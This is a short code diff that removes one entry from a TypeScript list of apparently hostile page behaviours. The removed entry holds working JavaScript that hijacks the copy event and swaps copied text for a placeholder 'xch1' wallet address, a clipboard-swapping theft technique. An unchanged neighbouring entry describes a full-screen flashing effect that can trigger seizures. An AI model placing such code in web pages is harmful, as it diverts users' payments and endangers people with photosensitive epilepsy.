@@ -88,17 +88,6 @@ export const use: Release[] = [
     },
   },
   {
-    name: 'swaps-copied-text',
-    kind: 'clipboard taken',
-    // A person who copies an address on any later page pays somebody else.
-    code: {
-      effect: `document.addEventListener('copy', (event) => {
-      event.clipboardData?.setData('text/plain', 'xch1' + 'q'.repeat(58));
-      event.preventDefault();
-    });`,
-    },
-  },
-  {
     name: 'flashes',
     kind: 'flashing screen',
     // Eight times a second over the whole screen; more than three can cause a seizure.
